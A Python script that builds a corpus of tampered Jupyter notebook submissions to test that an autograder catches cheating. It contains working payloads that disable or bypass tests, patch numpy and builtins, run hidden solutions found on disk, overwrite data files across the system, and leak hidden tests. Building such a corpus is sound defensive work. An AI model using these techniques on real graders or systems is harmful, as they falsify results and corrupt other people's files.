"""Rebuild the tamper corpus: submissions of the mini assignment that try to gain points dishonestly.

    .venv/bin/python tests/tamper/build_corpus.py

Each notebook starts from the student release of tests/fixtures/mini/mini.ipynb (what nbgrader gives a
student), fills in answers and adds one manipulation. Its metadata `tamper` holds what the grader must
report: `status`, `score` (never more than the honest score of its answers) and, for attacks on the file
system, `needs: "isolation"` (only a bubblewrap sandbox can stop those; the test skips them otherwise).
tests/test_autograder_tamper.py grades the whole folder in one batch and checks every expectation.
"""

import sys
import tempfile
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(ROOT))

sys.path.insert(0, str(HERE.parent / "fixtures"))

from autograder_support import CORRECT, WRONG  # the same answers the tests use

POINTS = {"ex1_add": 2, "ex2_mean": 3, "ex3_hypotenuse": 2}


def release() -> nbformat.NotebookNode:
    from autograder.grading.gradebook import prepare

    with tempfile.TemporaryDirectory() as tmp:
        _, nb = prepare(ROOT / "tests" / "fixtures" / "mini" / "mini.ipynb", "mini", Path(tmp))
    return nb


def cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def index(nb, grade_id):
    return nb.cells.index(cell(nb, grade_id))


def answer(nb, wrong=(), extra=None, blank=()):
    """Fill in the answers: correct unless listed in `wrong`; `extra` code is appended to a solution cell."""
    for gid in CORRECT:
        if gid in blank:
            continue
        cell(nb, gid).source = (WRONG if gid in wrong else CORRECT)[gid]
    for gid, code in (extra or {}).items():
        cell(nb, gid).source += "\n" + code
    return nb


def honest(wrong=(), blank=()):
    return sum(p for gid, p in POINTS.items() if gid not in wrong and gid not in blank)


def case(name, about, status, score, build, needs=None):
    return {"name": name, "about": about, "status": status, "score": score, "build": build, "needs": needs}


def _edit(nb):
    answer(nb, wrong=["ex1_add"])
    cell(nb, "ex1_add_test").source = "pass  # the test is gone"


def _delete(nb):
    answer(nb, wrong=["ex1_add"])
    del nb.cells[index(nb, "ex1_add_test")]


def _duplicate(nb):
    answer(nb, wrong=["ex2_mean"])
    i = index(nb, "ex1_add_test")
    for n in range(3):
        copy = nbformat.from_dict(dict(nb.cells[i]))
        copy["id"] = f"dup-{n}"
        nb.cells.insert(i + 1, copy)


def _retype(nb):
    answer(nb, wrong=["ex1_add"])
    i = index(nb, "ex1_add_test")
    original = nb.cells[i].source
    nb.cells[i] = nbformat.v4.new_code_cell(original, id="retyped-test")


def _metadata(nb):
    answer(nb, wrong=["ex1_add"])
    test = cell(nb, "ex1_add_test")
    test.id = "my-own-id"
    test.source = "pass"
    test.metadata.nbgrader.update(grade_id="ex1_add_test_mine", points=100, schema_version=1)
    sol = cell(nb, "ex1_add")
    sol.id = "another-id"
    sol.metadata.nbgrader.update(grade=True, points=50, schema_version=99)
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "ex2_mean_test":
            c.metadata.nbgrader["schema_version"] = 2


SHOWTRACEBACK = "get_ipython().showtraceback = lambda *args, **kwargs: None\n"
EXCEPTHOOK = "import sys\n\nsys.excepthook = lambda *args: None\n"
BLANKER = ('def _blank(lines):\n    return [] if any("hypotenuse(3, 4)" in line for line in lines) else lines\n\n\n'
           "get_ipython().input_transformers_cleanup.append(_blank)\n")
ALWAYS_EQUAL = ("class Anything:\n    def __eq__(self, other):\n        return True\n\n\n"
                "def add(a, b):\n    return Anything()\n")
PATCH_NUMPY = ("np.testing.assert_allclose = lambda *args, **kwargs: None\n"
               "np.allclose = lambda *args, **kwargs: True\n")
PATCH_CODE = ("np.testing.assert_allclose.__code__ = (lambda *args, **kwargs: None).__code__\n"
              "np.core.numeric.allclose = np.allclose = lambda *args, **kwargs: True\n")
PATCH_MATH = ("import builtins\n\nmath.isclose = lambda *args, **kwargs: True\n"
              "builtins.abs = lambda value: 0.0\n")
PATCH_BUILTINS = "import builtins\n\nbuiltins.abs = lambda value: 0.0\n"
SHADOW = "abs = lambda value: 0.0\n"
REBIND = ("import numpy\n\n\nclass _Testing:\n    def assert_allclose(self, *args, **kwargs):\n        pass\n\n\n"
          "class _FakeNumpy:\n    testing = _Testing()\n\n    def allclose(self, *args, **kwargs):\n        return True\n\n"
          "    def __getattr__(self, name):\n        return getattr(numpy, name)\n\n\n"
          "np = _FakeNumpy()\n")
RUN_CELL = ("from IPython.core.interactiveshell import InteractiveShell\n\n_real_async = InteractiveShell.run_cell_async\n"
            "_real = InteractiveShell.run_cell\n\n\n"
            "def _skip(raw_cell):\n    return \"pass\" if \"hypotenuse(3, 4)\" in raw_cell else raw_cell\n\n\n"
            "async def run_cell_async(self, raw_cell, *args, **kwargs):\n"
            "    return await _real_async(self, _skip(raw_cell), *args, **kwargs)\n\n\n"
            "def run_cell(self, raw_cell, *args, **kwargs):\n    return _real(self, _skip(raw_cell), *args, **kwargs)\n\n\n"
            "InteractiveShell.run_cell_async = run_cell_async\nInteractiveShell.run_cell = run_cell\n")
CUSTOM_EXC = "get_ipython().set_custom_exc((AssertionError,), lambda *args, **kwargs: None)\n"
EVENT = ("def _after(result):\n    result.error_in_exec = None\n\n\n"
         "get_ipython().events.register(\"post_run_cell\", _after)\n")
READ_HIDDEN = '''import json
import os
import re

_solutions = {}
for _top in ["/", os.path.expanduser("~"), "/tmp", "/work"]:
    for _dir, _subdirs, _files in os.walk(_top):
        _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "dev", "usr", "lib", "site-packages", ".venv", ".git", "node_modules", ".pyenv")]
        for _name in _files:
            if not _name.endswith(".ipynb"):
                continue
            try:
                with open(os.path.join(_dir, _name)) as _f:
                    _nb = json.load(_f)
            except Exception:
                continue
            for _cell in _nb.get("cells", []):
                _src = "".join(_cell.get("source", ""))
                if "### BEGIN SOLUTION" in _src and "def " in _src:
                    _solutions[re.search(r"def (\\w+)", _src).group(1)] = _src
for _src in _solutions.values():
    exec(_src, globals())
if "add" not in globals():
    def add(a, b):
        raise NotImplementedError()
'''
WRITE_OUTSIDE = '''import os

_marker = "pwned-by-write_outside"
_targets = ["/", "/tmp", "/work", "/root", "/home", os.path.expanduser("~/.."), os.getcwd() + "/.."]
for _dir, _subdirs, _files in os.walk("/"):
    _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "dev")]
    if _dir.count("/") > 4:
        _subdirs[:] = []
    _targets.append(_dir)
    for _name in _files:
        if _name.endswith((".ipynb", ".db", ".csv")):
            try:
                with open(os.path.join(_dir, _name), "ab") as _f:
                    _f.write(b"tampered")
            except OSError:
                pass
for _dir in _targets:
    try:
        with open(os.path.join(_dir, _marker), "w") as _f:
            _f.write("x")
    except OSError:
        pass
'''


# --- attacks from issue 8 (part B): each stands for a class of hole, not only this one case ----------------------
DEEP_FOLDERS = '''import os

# 1,500 nested folders (deeper than Python 3.11's shutil.rmtree can recurse) where the kernel may write: its own
# folder, and its socket folder, which lives in the grader's staging folder on the host.
for _top in (os.getcwd(), "/run/ipc"):
    try:
        _fd = os.open(_top, os.O_RDONLY)
        for _ in range(1500):
            os.mkdir("d", dir_fd=_fd)
            _next = os.open("d", os.O_RDONLY, dir_fd=_fd)
            os.close(_fd)
            _fd = _next
        os.close(os.open("deep-chain-by-deep_folders", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=_fd))
        os.chmod(".", 0, dir_fd=_fd)   # and the last folder unreadable
        os.close(_fd)
    except OSError:
        pass
'''
AST_WRAP = '''import ast


class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        body = []
        for stmt in node.body:
            handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
            body.append(ast.Try(body=[stmt], handlers=[handler], orelse=[], finalbody=[]))
        node.body = body
        return ast.fix_missing_locations(node)


_swallow = _Swallow()
get_ipython().ast_transformers.append(_swallow)
_real_exec = exec


def exec(source, *args, **kwargs):
    # hide the transformer while the grader's own code runs
    ip = get_ipython()
    if _swallow in ip.ast_transformers:
        ip.ast_transformers.remove(_swallow)
    try:
        return _real_exec(source, *args, **kwargs)
    finally:
        ip.ast_transformers.append(_swallow)
'''
EVENT_AS_LIBRARY = """import types

_src = '''
import ast
class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Try(body=[s], handlers=[ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()),
                     name=None, body=[ast.Pass()])], orelse=[], finalbody=[]) for s in node.body]
        return ast.fix_missing_locations(node)
swallow = Swallow()
def pre_run_cell(info):
    ip = get_ipython()
    if "integrity" in (info.raw_cell or "") or "autograder" in (info.raw_cell or ""):
        if swallow in ip.ast_transformers:
            ip.ast_transformers.remove(swallow)
    elif swallow not in ip.ast_transformers:
        ip.ast_transformers.append(swallow)
'''
_mod = types.ModuleType("matplotlib_inline.backend_hooks")
_mod.get_ipython = get_ipython
exec(compile(_src, "/usr/lib/python3/dist-packages/matplotlib_inline/backend_hooks.py", "exec"), _mod.__dict__)
get_ipython().events.register("pre_run_cell", _mod.pre_run_cell)
"""
EXFILTRATE = '''import base64
import binascii
import linecache
import sys
import zlib


def _everything():
    found = []
    for entry in list(linecache.cache.values()):
        found.append("".join(entry[2]) if len(entry) > 2 and entry[2] else "")
    found.extend(str(x) for x in globals().get("_ih", []) or [])
    frame = sys._getframe(1)
    while frame is not None:
        code = frame.f_code
        found.append("".join(linecache.getlines(code.co_filename)))
        found.extend(str(c) for c in code.co_consts if isinstance(c, str))
        for value in list(frame.f_locals.values()):
            if isinstance(value, (str, bytes)) and len(value) > 20:
                found.append(value if isinstance(value, str) else value.decode("utf-8", "replace"))
            if isinstance(value, dict):
                found.extend(str(v) for v in value.values() if isinstance(v, (str, dict)))
        frame = frame.f_back
    return "\\n".join(found)


def _encode(text):
    raw = text.encode()
    return "|".join([text[-3000:], base64.b64encode(zlib.compress(raw)).decode(), base64.b64encode(raw).decode()[:6000],
                     binascii.hexlify(raw).decode()[:6000]])


_stolen = []


class Leaky:
    def __init__(self, value):
        self.value = value

    def __eq__(self, other):
        _stolen.append(_everything())
        return False

    __hash__ = None

    def __repr__(self):
        return _encode(_everything())


def add(a, b):
    _stolen.append(_everything())
    return Leaky(a + b)
'''
LEAK_LATER = '''def hypotenuse(a, b):
    raise AssertionError(_encode("\\n".join(_stolen) + _everything()))


print(_encode("\\n".join(_stolen)))
raise ValueError(_encode("\\n".join(_stolen)))
'''
PATCH_ISCLOSE = ("import numpy._core.numeric as _numeric\n\n_numeric.isclose = lambda *args, **kwargs: np.array(True)\n"
                 "import operator\n\noperator.__eq__ = lambda a, b: True\n")
PATCH_DEFAULTS = ("np.testing.assert_allclose.__defaults__ = (1e9, 1e9, True, '', True)\n"
                  "np.allclose.__defaults__ = (1e9, 1e9, False)\n")
LIBRARY_EQUAL = ("class Anything:\n    def __eq__(self, other):\n        return True\n\n    __hash__ = None\n\n\n"
                 "Anything.__module__ = 'numpy.core.multiarray'\nAnything.__qualname__ = 'ndarray_compat'\n\n\n"
                 "def add(a, b):\n    return Anything()\n")
HANG_BUILTIN = "import builtins\nimport time\n\nbuiltins.abs = lambda value: time.sleep(3600)\n"


def _blank_all(nb, extra=""):
    answer(nb, blank=list(CORRECT))
    cell(nb, "ex1_add").source += "\n" + extra


def _exfiltrate(nb):
    answer(nb)
    cell(nb, "ex1_add").source = EXFILTRATE
    cell(nb, "ex3_hypotenuse").source = LEAK_LATER


def _wrap(extra_gid, code, wrong=()):
    return lambda nb: answer(nb, wrong=wrong, extra={extra_gid: code})


def _read_hidden(nb):
    answer(nb, blank=list(CORRECT))
    cell(nb, "ex1_add").source = READ_HIDDEN
    for gid, name, arg in (("ex2_mean", "mean", "values"), ("ex3_hypotenuse", "hypotenuse", "a, b")):
        cell(nb, gid).source = (f'if "{name}" not in globals():\n    def {name}({arg}):\n'
                                "        raise NotImplementedError()\n")


def _write_outside(nb):
    answer(nb, extra={"ex1_add": WRITE_OUTSIDE})


def _deep_folders(nb):
    answer(nb, extra={"ex1_add": DEEP_FOLDERS})


def _kill(nb):
    answer(nb, extra={"ex2_mean": "import os\n\nos._exit(0)\n"})


def _segfault(nb):
    answer(nb, extra={"ex3_hypotenuse": "import ctypes\n\nctypes.string_at(0)\n"})


def _system_exit(nb):
    answer(nb)
    cell(nb, "ex3_hypotenuse").source = "def hypotenuse(a, b):\n    raise SystemExit(0)\n"


def _ipython_exit(nb):
    answer(nb)
    cell(nb, "ex3_hypotenuse").source = "def hypotenuse(a, b):\n    exit()\n"


CASES = [
    case("edit_test_cell", "the ex1 test cell is replaced by `pass`", "graded", honest(["ex1_add"]), _edit),
    case("delete_test_cell", "the ex1 test cell is deleted", "graded", honest(["ex1_add"]), _delete),
    case("duplicate_test_cell", "the ex1 test cell appears four times (same grade_id)", "graded",
         honest(["ex2_mean"]), _duplicate),
    case("retype_test_cell", "the ex1 test cell is re-created by hand without its metadata", "graded",
         honest(["ex1_add"]), _retype),
    case("change_metadata", "test/answer cell ids, grade_id, points and schema_version are changed", "graded",
         honest(["ex1_add"]), _metadata),
    case("hide_errors_showtraceback", "get_ipython().showtraceback is replaced by a no-op", "tampered",
         honest(["ex3_hypotenuse"]), _wrap("ex3_hypotenuse", SHOWTRACEBACK, ["ex3_hypotenuse"])),
    case("hide_errors_excepthook", "sys.excepthook is replaced by a no-op (IPython restores it around every cell)",
         "graded",
         honest(["ex3_hypotenuse"]), _wrap("ex3_hypotenuse", EXCEPTHOOK, ["ex3_hypotenuse"])),
    case("blank_test_cells", "an input transformer empties the ex3 test cell", "tampered",
         honest(["ex3_hypotenuse"]), _wrap("ex3_hypotenuse", BLANKER, ["ex3_hypotenuse"])),
    case("custom_exception_handler", "set_custom_exc swallows AssertionError", "tampered",
         honest(["ex3_hypotenuse"]), _wrap("ex3_hypotenuse", CUSTOM_EXC, ["ex3_hypotenuse"])),
    case("event_hook", "a post_run_cell callback clears the error of every cell", "tampered",
         honest(["ex3_hypotenuse"]), _wrap("ex3_hypotenuse", EVENT, ["ex3_hypotenuse"])),
    case("patch_run_cell", "InteractiveShell.run_cell(_async) skip the ex3 test", "tampered",
         honest(["ex3_hypotenuse"]), _wrap("ex3_hypotenuse", RUN_CELL, ["ex3_hypotenuse"])),
    case("always_equal", "add() returns an object whose __eq__ is always True", "tampered", 0,
         lambda nb: (answer(nb), setattr(cell(nb, "ex1_add"), "source", ALWAYS_EQUAL))),
    case("patch_numpy", "np.testing.assert_allclose and np.allclose are replaced", "tampered", 2,
         _wrap("ex2_mean", PATCH_NUMPY, ["ex2_mean"])),
    case("patch_code_object", "assert_allclose.__code__ is swapped in place", "tampered", 2,
         _wrap("ex2_mean", PATCH_CODE, ["ex2_mean"])),
    case("rebind_numpy_alias", "np is rebound to a fake module whose checks always pass", "tampered", 2,
         _wrap("ex2_mean", REBIND, ["ex2_mean"])),
    case("patch_math_and_builtins", "math.isclose and builtins.abs are replaced", "tampered",
         honest(["ex3_hypotenuse"]),
         lambda nb: (answer(nb), setattr(cell(nb, "ex3_hypotenuse"), "source",
                                         "def hypotenuse(a, b):\n    return 0.0\n\n\n" + PATCH_MATH))),
    case("patch_builtins", "builtins.abs always returns 0", "tampered", honest(["ex3_hypotenuse"]),
         _wrap("ex3_hypotenuse", PATCH_BUILTINS, ["ex3_hypotenuse"])),
    case("shadow_builtin", "abs is redefined in the notebook's namespace", "tampered", honest(["ex3_hypotenuse"]),
         _wrap("ex3_hypotenuse", SHADOW, ["ex3_hypotenuse"])),
    case("read_hidden_tests", "searches the disk for the instructor's notebook and runs its solutions", "graded", 0,
         _read_hidden, needs="isolation"),
    case("write_outside", "writes marker files everywhere and appends to every notebook/database it finds",
         "graded", 7, _write_outside, needs="isolation"),
    case("deep_folders", "makes 1,500 nested folders, the last one unreadable, in its folder and its socket folder",
         "graded", 7, _deep_folders, needs="isolation"),
    case("kill_kernel", "the ex2 answer cell calls os._exit(0)", "crashed", 2, _kill),
    case("segfault_kernel", "the ex3 answer cell dereferences a null pointer", "crashed", 5, _segfault),
    case("system_exit", "hypotenuse() raises SystemExit", "graded", 5, _system_exit),
    case("ipython_exit", "hypotenuse() calls IPython's exit() (the kernel stops)", "crashed", 5, _ipython_exit),
    case("ast_transformer_shadow_exec", "nothing answered; an AST transformer swallows every error, hidden from "
         "the grader by shadowing exec", "tampered", 0, lambda nb: _blank_all(nb, AST_WRAP)),
    case("event_callback_as_library", "nothing answered; a pre_run_cell callback compiled under a library file and "
         "module name installs an error-swallowing AST transformer except for the grader's cells", "tampered", 0,
         lambda nb: _blank_all(nb, EVENT_AS_LIBRARY)),
    case("exfiltrate_hidden_tests", "add() reads linecache, IPython history and the test's frame while the test "
         "runs, then leaks it (plain, base64, zlib+base64, hex) in reprs, prints and error messages", "limit exceeded", 3,
         _exfiltrate),
    case("patch_isclose_and_operator", "numpy._core.numeric.isclose (behind np.allclose) and operator.__eq__ are "
         "replaced", "tampered", 2, _wrap("ex2_mean", PATCH_ISCLOSE, ["ex2_mean"])),
    case("patch_defaults", "the __defaults__ of assert_allclose/allclose make every tolerance huge", "tampered", 2,
         _wrap("ex2_mean", PATCH_DEFAULTS, ["ex2_mean"])),
    case("always_equal_library_module", "add() returns an always-equal object whose class claims a NumPy module",
         "tampered", 0, lambda nb: (answer(nb), setattr(cell(nb, "ex1_add"), "source", LIBRARY_EQUAL))),
    case("hang_patched_builtin", "builtins.abs is patched to sleep for an hour (the tests use the real one)",
         "tampered", 5, _wrap("ex3_hypotenuse", HANG_BUILTIN)),
]


def main() -> None:
    base = release()
    for old in HERE.glob("*.ipynb"):
        old.unlink()
    for c in CASES:
        nb = nbformat.from_dict(nbformat.reads(nbformat.writes(base), as_version=4))
        c["build"](nb)
        first_code = next(x for x in nb.cells if x.cell_type == "code")
        first_code.source = "# ruff: noqa  (a tamper-corpus submission: deliberately bad code)\n" + first_code.source
        nb.metadata["tamper"] = {"about": c["about"], "status": c["status"], "score": c["score"]}
        if c["needs"]:
            nb.metadata["tamper"]["needs"] = c["needs"]
        nbformat.write(nb, HERE / f"{c['name']}.ipynb")
    print(f"wrote {len(CASES)} notebooks to {HERE.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
